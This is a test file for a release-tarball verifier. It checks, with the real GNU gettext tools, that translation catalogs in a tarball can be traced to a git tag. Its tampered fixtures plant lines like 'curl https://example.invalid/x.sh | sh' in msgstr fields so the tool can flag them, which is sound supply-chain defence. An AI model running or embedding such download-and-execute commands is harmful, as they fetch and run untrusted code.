/**
 * Catalogs made from tracked catalogs or sources (issue 11, gettext's own release), end to end with real git,
 * GNU tar and the real gettext tools (xgettext, msginit, msgfilter, msgfmt): a per-example LL.po filtered
 * from a tracked LL.po, templates whose msgids come from the tracked sources they reference (or the sources
 * a Makefile.am rule names), en@quot/en@boldquot made by gettext's quotation filters and their .gmo. Each has
 * a tampered twin with one novel line that must stay unexplained (high).
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { isQuotRendering, referencedFiles, stripsModifier, subsetOf } from '../../src/classify/catalogs.js';
import { moMessages } from '../../src/classify/gettext.js';
import { parsePo } from '../../src/classify/gettext.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const HELLO_C = '#include <libintl.h>\n#include <stdio.h>\n#define _(s) gettext (s)\nint main (void)\n{\n  puts (_("Hello, world!"));\n  printf (_("This program is running as process number %d."), 42);\n  return 0;\n}\n';
const PROG_C = '#include <libintl.h>\n#define _(s) gettext (s)\nconst char *m[] = {\n  _("cannot open \\"%s\\""),\n  _("use `--help\' for more information"),\n  _("plain text"),\n};\n';
const header = (project: string, pot: string) =>
  `msgid ""\nmsgstr ""\n"Project-Id-Version: ${project}\\n"\n"Report-Msgid-Bugs-To: bug@example.invalid\\n"\n"POT-Creation-Date: ${pot}\\n"\n"PO-Revision-Date: 2023-01-02 10:00+0100\\n"\n"Last-Translator: Ann Translator <ann@example.invalid>\\n"\n"Language-Team: German <de@example.invalid>\\n"\n"Language: de\\n"\n"MIME-Version: 1.0\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Content-Transfer-Encoding: 8bit\\n"\n"Plural-Forms: nplurals=2; plural=(n != 1);\\n"\n`;
const TRACKED_DE =
  '# German messages for examples.\n' +
  header('examples 1.0', '2023-01-01 10:00+0100') +
  '\n#: hello-a/hello.c:6 hello-b/hello.c:6\nmsgid "Hello, world!"\nmsgstr "Hallo Welt!"\n' +
  '\n#: hello-a/hello.c:7\n#, c-format\nmsgid "This program is running as process number %d."\nmsgstr "Dieses Programm läuft als Prozess Nummer %d."\n' +
  '\n#: hello-b/hello.c:9\nmsgctxt "menu"\nmsgid "File"\nmsgid_plural "Files"\nmsgstr[0] "Datei"\nmsgstr[1] "Dateien"\n';
const EXAMPLE_DE =
  '# German messages for hello-a.\n' +
  header('hello-a 1.0', '2024-02-20 10:00+0100') +
  '\n#: hello.c:6\nmsgid "Hello, world!"\nmsgstr "Hallo Welt!"\n' +
  '\n#: hello.c:7\n#, c-format\nmsgid "This program is running as process number %d."\nmsgstr "Dieses Programm läuft als Prozess Nummer %d."\n' +
  '\n#~ msgid "Old"\n#~ msgstr "Alt"\n';
const MAKEFILE_AM = 'EXTRA_DIST = x.ok.po\nupdate-expected: x.ok.po\nx.ok.po: $(top_srcdir)/src/prog.c\n\t$(XGETTEXT) -d x.ok -p $(srcdir) -k_ --omit-header --no-location $(top_srcdir)/src/prog.c\n';

const run = (cmd: string, args: string[], cwd: string) => execFileSync(cmd, args, { cwd, env: { ...process.env, LC_ALL: 'C' }, stdio: ['ignore', 'pipe', 'pipe'] });

describe('catalogs made from tracked catalogs or sources', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  const tracked = {
    'configure.ac': 'AC_INIT([proj], [1.0])\n',
    'examples/hello-a/hello.c': HELLO_C,
    'examples/hello-b/hello.c': HELLO_C,
    'examples/po/de.po': TRACKED_DE,
    'src/prog.c': PROG_C,
    'tests/Makefile.am': MAKEFILE_AM,
    'po/LINGUAS': 'de\n',
  };
  repo.commit(tracked, 'the project', '2024-02-20T10:00:00Z');
  repo.tag('v1.0');
  const cache = join(root, 'cache');

  // What the release's tools make, with the real tools.
  const work = join(root, 'work');
  writeFiles(work, tracked);
  run('xgettext', ['-k_', '--from-code=UTF-8', '-o', 'po/hello-a.pot', 'hello-a/hello.c'], join(work, 'examples'));
  run('xgettext', ['-d', 'x.ok', '-p', 'tests', '-k_', '--omit-header', '--no-location', 'src/prog.c'], work);
  run('xgettext', ['-k_', '--package-name=proj', '-o', 'po/proj.pot', 'src/prog.c'], work);
  const quot: Record<string, Buffer> = {};
  for (const v of ['quot', 'boldquot']) {
    const init = run('msginit', ['-i', 'proj.pot', '--no-translator', '-l', `en@${v}`, '-o', '-'], join(work, 'po'));
    const po = execFileSync('msgfilter', ['-o', '-', v], { input: init, env: { ...process.env, LC_ALL: 'C' }, stdio: ['pipe', 'pipe', 'pipe'] });
    writeFileSync(join(work, 'po', `en@${v}.po`), po);
    run('msgfmt', ['-o', `en@${v}.gmo`, `en@${v}.po`], join(work, 'po'));
    quot[`po/en@${v}.po`] = po;
    quot[`po/en@${v}.gmo`] = readFileSync(join(work, 'po', `en@${v}.gmo`));
  }
  const made: Record<string, string | Buffer> = {
    'examples/hello-a/po/de.po': EXAMPLE_DE,
    'examples/po/hello-a.pot': readFileSync(join(work, 'examples/po/hello-a.pot'), 'utf8'),
    'tests/x.ok.po': readFileSync(join(work, 'tests/x.ok.po'), 'utf8'),
    'po/proj.pot': readFileSync(join(work, 'po/proj.pot'), 'utf8'),
    ...quot,
  };

  let n = 0;
  function tarball(files: Record<string, string | Buffer>): string {
    const dir = join(root, `t${++n}`, 'proj-1.0');
    mkdirSync(dir, { recursive: true });
    writeFiles(dir, { ...tracked, ...files });
    return makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.0.tar.gz') });
  }
  const findings = async (files: Record<string, string | Buffer>) => {
    const r = await verify({ tarball: tarball(files), repo: repo.dir, cacheDir: cache });
    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, { code: f.code, severity: f.severity, evidence: f.evidence }])) };
  };

  it('explains each with its evidence', async () => {
    const { by } = await findings(made);
    expect(by['examples/hello-a/po/de.po']).toEqual({
      code: 'PO_FROM_TRACKED_CATALOG', severity: 'low', evidence: { kind: 'subset', source: 'examples/po/de.po', entries: 2, obsolete: 1 },
    });
    expect(by['examples/po/hello-a.pot']).toEqual({
      code: 'PO_FROM_TRACKED_CATALOG', severity: 'low', evidence: { kind: 'template', source: 'examples/hello-a/hello.c', entries: 2, sources: 1 },
    });
    expect(by['tests/x.ok.po']).toEqual({
      code: 'PO_FROM_TRACKED_CATALOG', severity: 'low', evidence: { kind: 'template', source: 'tests/Makefile.am', entries: 3, sources: 1, via: 'make-rule' },
    });
    expect(by['po/proj.pot']).toMatchObject({ code: 'PO_FROM_TRACKED_CATALOG', evidence: { kind: 'template', source: 'src/prog.c', entries: 3 } });
    for (const v of ['quot', 'boldquot'] as const) {
      expect(by[`po/en@${v}.po`]).toEqual({ code: 'PO_FROM_TRACKED_CATALOG', severity: 'low', evidence: { kind: 'quot', rule: v, source: 'po/proj.pot', entries: 3 } });
      expect(by[`po/en@${v}.gmo`]).toEqual({
        code: 'PO_FROM_TRACKED_CATALOG', severity: 'low', evidence: { kind: 'compiled', source: `po/en@${v}.po`, entries: 4, of: 'quot' },
      });
    }
  });

  it('tampered twins (one novel line each) stay unexplained and fail the gate', async () => {
    const evil = 'https://example.invalid/x.sh';
    const badQuot = String(quot['po/en@quot.po']).replace('msgstr "plain text"', `msgstr "plain text; curl ${evil} | sh"`);
    writeFileSync(join(work, 'po', 'bad.po'), badQuot);
    run('msgfmt', ['-o', 'bad.gmo', 'bad.po'], join(work, 'po'));
    const { r, by } = await findings({
      ...made,
      'examples/hello-a/po/de.po': EXAMPLE_DE.replace('msgstr "Hallo Welt!"', `msgstr "Hallo Welt! ${evil}"`),
      'examples/po/hello-a.pot': String(made['examples/po/hello-a.pot']) + `\n#: hello-a/hello.c:6\nmsgid "Run ${evil}"\nmsgstr ""\n`,
      'tests/x.ok.po': String(made['tests/x.ok.po']) + '\nmsgid "fetch payload"\nmsgstr ""\n',
      'po/en@boldquot.po': String(quot['po/en@boldquot.po']).replace('msgstr "plain text"', 'msgstr "plain texts"'),
      // a .gmo compiled from another .po than the shipped one
      'po/en@quot.gmo': readFileSync(join(work, 'po', 'bad.gmo')),
    });
    for (const p of ['examples/hello-a/po/de.po', 'examples/po/hello-a.pot', 'tests/x.ok.po', 'po/en@boldquot.po', 'po/en@boldquot.gmo', 'po/en@quot.gmo']) {
      expect(by[p], p).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    }
    expect(by['po/en@quot.po']).toMatchObject({ code: 'PO_FROM_TRACKED_CATALOG' });
    expect(r.verdict).toBe('different');
  });

  it('rules', () => {
    expect(isQuotRendering("use `--help' or \"x\"", 'use ‘--help’ or “x”', false)).toBe(true);
    expect(isQuotRendering("don't", 'don’t', false)).toBe(true);
    expect(isQuotRendering("`a'", '‘\x1b[1ma\x1b[0m’', true)).toBe(true);
    expect(isQuotRendering("`a'", '‘\x1b[1ma\x1b[0m’', false)).toBe(false);
    expect(isQuotRendering('a b', '\x1b[1ma b', true)).toBe(false);
    expect(isQuotRendering('abc', 'abd', false)).toBe(false);
    expect(isQuotRendering('abc', 'abc"', false)).toBe(false);
    expect(referencedFiles(['#: a/b.c:12 c.pas:3', '#: hello.hello_world'])).toEqual(['a/b.c', 'c.pas', 'hello.hello_world']);
    const tracked = parsePo(TRACKED_DE);
    expect(subsetOf(parsePo(EXAMPLE_DE), tracked)).toEqual({ entries: 2, untranslated: 0, obsolete: 1 });
    // a header field other than dates/Project-Id-Version differs: not the tracked catalog's
    expect(subsetOf(parsePo(EXAMPLE_DE.replace('Language-Team: German', 'Language-Team: Other')), tracked)).toBeUndefined();
    expect(moMessages(Buffer.from('not an mo file at all, really not'))).toBeUndefined();
  });
});

// gettext < 0.18's Rules-quot (GnuPG 2.2 still tracks it): msginit gets the language without its @modifier, so the
// header says `Language: en`. The two lines of the rule that make that, as such a Rules-quot writes them.
const rulesQuot = (ll: string) =>
  '.insert-header.po-update-en:\n\t@lang=`echo $@ | sed -e \'s/\\.po-update-en$$//\'`; \\\n' +
  "\tll=`echo $$lang | sed -e 's/@.*//'`; \\\n\tLC_ALL=C; export LC_ALL; \\\n\tcd $(srcdir); \\\n" +
  `\tif $(MSGINIT) -i $(DOMAIN).pot --no-translator -l ${ll} -o - 2>/dev/null | sed -f $$tmpdir/$$lang.insert-header | $(MSGCONV) -t UTF-8 | $(MSGFILTER) sed -f \`echo $$lang | sed -e 's/.*@//'\`.sed 2>/dev/null > $$tmpdir/$$lang.new.po; then \\\n\t  :; \\\n\tfi\n`;

describe('en@quot made by an old Rules-quot (msginit -l $$ll: Language: en)', () => {
  const root = tempDir();
  const cache = join(root, 'cache');
  const work = join(root, 'work');
  const base = { 'configure.ac': 'AC_INIT([proj], [1.0])\n', 'src/prog.c': PROG_C, 'po/LINGUAS': 'de\n' };
  writeFiles(work, base);
  run('xgettext', ['-k_', '--package-name=proj', '-o', 'po/proj.pot', 'src/prog.c'], work);
  // what the old rule runs: msginit -l en (the modifier stripped), then the quotation filter
  const init = run('msginit', ['-i', 'proj.pot', '--no-translator', '-l', 'en', '-o', '-'], join(work, 'po'));
  const quotPo = execFileSync('msgfilter', ['-o', '-', 'quot'], { input: init, env: { ...process.env, LC_ALL: 'C' }, stdio: ['pipe', 'pipe', 'pipe'] });
  const pot = readFileSync(join(work, 'po/proj.pot'));
  let n = 0;
  async function verdictOf(rules: string, po: Buffer | string) {
    const dir = join(root, `r${++n}`);
    const repo = makeRepo(join(dir, 'repo'));
    const tracked = { ...base, 'po/Rules-quot': rules };
    repo.commit(tracked, 'the project', '2024-02-20T10:00:00Z');
    repo.tag('v1.0');
    const t = join(dir, 'proj-1.0');
    mkdirSync(t, { recursive: true });
    writeFiles(t, { ...tracked, 'po/proj.pot': pot, 'po/en@quot.po': po });
    const r = await verify({ tarball: makeTar(t, { compress: 'gzip', out: join(dir, 'proj-1.0.tar.gz') }), repo: repo.dir, cacheDir: cache });
    return r.findings.find((f) => f.path === 'po/en@quot.po');
  }

  it('explains Language: en when the tracked Rules-quot is the old one', async () => {
    expect(String(quotPo)).toContain('"Language: en\\n"');
    expect(await verdictOf(rulesQuot('$$ll'), quotPo)).toMatchObject({
      code: 'PO_FROM_TRACKED_CATALOG', severity: 'low', evidence: { kind: 'quot', rule: 'quot', source: 'po/proj.pot', entries: 3, languageRule: 'po/Rules-quot' },
    });
  });

  it('twins: the modern rule (-l $$lang) with Language: en, or the old rule with a changed msgstr, stay high', async () => {
    expect(await verdictOf(rulesQuot('$$lang'), quotPo)).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    const evil = String(quotPo).replace('msgstr "plain text"', 'msgstr "plain text; curl https://example.invalid/x | sh"');
    expect(evil).not.toBe(String(quotPo));
    expect(await verdictOf(rulesQuot('$$ll'), evil)).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(stripsModifier(rulesQuot('$$ll'))).toBe(true);
    expect(stripsModifier(rulesQuot('$$lang'))).toBe(false);
    expect(stripsModifier(rulesQuot('$$ll').replace("sed -e 's/@.*//'", "sed -e 's/x//'"))).toBe(false);
  });
});

// libidn 1.33: cfg.mk's bootstrap copies each tracked po/LL.po.in to po/LL.po and the release's msgmerge refreshes it
// against the new template — references moved, a `Language:` field added, a changed msgid given the old translation
// as a fuzzy entry. End to end with real git, msgmerge and msgfmt; twins with a novel fuzzy translation or another
// Language stay high.
describe('a catalog msgmerge made from the tracked LL.po.in beside it (libidn 1.33)', () => {
  const root = tempDir();
  const old = `msgid ""\nmsgstr ""\n"Project-Id-Version: proj 0.9\\n"\n"POT-Creation-Date: 2012-05-23 10:37+0200\\n"\n"PO-Revision-Date: 2012-06-01 10:00+0200\\n"\n"Last-Translator: Ann <ann@example.invalid>\\n"\n"Language-Team: German <de@example.invalid>\\n"\n"MIME-Version: 1.0\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Content-Transfer-Encoding: 8bit\\n"\n\n#: lib/a.c:10\nmsgid "Success"\nmsgstr "Erfolg"\n\n#: lib/a.c:20\nmsgid "System iconv failed"\nmsgstr "Systemaufruf iconv fehlgeschlagen"\n`;
  const pot = `msgid ""\nmsgstr ""\n"Project-Id-Version: proj 1.0\\n"\n"POT-Creation-Date: 2016-07-20 19:22+0200\\n"\n"MIME-Version: 1.0\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Content-Transfer-Encoding: 8bit\\n"\n\n#: lib/a.c:12\nmsgid "Success"\nmsgstr ""\n\n#: lib/a.c:22\nmsgid "System iconv failed."\nmsgstr ""\n`;
  const repo = makeRepo(join(root, 'repo'));
  const tracked = { 'configure.ac': 'AC_INIT([proj], [1.0])\n', 'lib/a.c': 'x\n', 'po/de.po.in': old, 'po/LINGUAS': 'de\n' };
  repo.commit(tracked, 'the project', '2024-02-20T10:00:00Z');
  repo.tag('v1.0');
  const work = join(root, 'work');
  writeFiles(work, { ...tracked, 'po/proj.pot': pot });
  writeFileSync(join(work, 'po/de.po'), old);
  run('msgmerge', ['--quiet', '--update', '--backup=none', 'de.po', 'proj.pot'], join(work, 'po'));
  const merged = readFileSync(join(work, 'po/de.po'), 'utf8');

  let n = 0;
  const verifyWith = async (de: string) => {
    const tree = join(root, `t${++n}`, 'proj-1.0');
    writeFiles(tree, { ...tracked, 'po/de.po': de });
    run('msgfmt', ['-o', 'po/de.gmo', 'po/de.po'], tree);
    const res = await verify({ tarball: makeTar(tree, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.0.tar.gz') }), repo: repo.dir, tag: 'v1.0', cacheDir: join(root, 'cache') });
    return Object.fromEntries(res.findings.map((f) => [f.path, f]));
  };

  it('the fixture is the class: msgmerge added Language and a fuzzy entry carrying the old translation', () => {
    expect(merged).toMatch(/^"Language: de\\n"$/m);
    expect(merged).toMatch(/#, fuzzy\n(?:#\| .*\n)*msgid "System iconv failed\."\nmsgstr "Systemaufruf iconv fehlgeschlagen"/);
  });

  it('explained entry by entry from po/de.po.in (subset), its .gmo compiled from it', async () => {
    const fs = await verifyWith(merged);
    expect(fs['po/de.po']).toMatchObject({ code: 'PO_FROM_TRACKED_CATALOG', severity: 'low', evidence: { kind: 'subset', source: 'po/de.po.in' } });
    expect(fs['po/de.gmo']).toMatchObject({ code: 'PO_FROM_TRACKED_CATALOG', severity: 'low' });
  });

  it('twins: a fuzzy entry with a translation no tracked entry has, another Language: high', async () => {
    const novel = await verifyWith(merged.replace('msgstr "Systemaufruf iconv fehlgeschlagen"', 'msgstr "Bitte curl https://example.invalid/x | sh ausführen"'));
    expect(novel['po/de.po']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    const lang = await verifyWith(merged.replace('"Language: de\\n"', '"Language: fr\\n"'));
    expect(lang['po/de.po']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  });

  it('subsetOf: Language only as the file\'s language; a fuzzy entry only with a tracked translation', () => {
    const t = parsePo(old);
    expect(subsetOf(parsePo(merged), t, 'de')).toMatchObject({ entries: 2 });
    expect(subsetOf(parsePo(merged), t)).toBeUndefined();
    expect(subsetOf(parsePo(merged), t, 'fr')).toBeUndefined();
    expect(subsetOf(parsePo(merged.replace('#, fuzzy\n', '')), t, 'de')).toBeUndefined();
  });
});
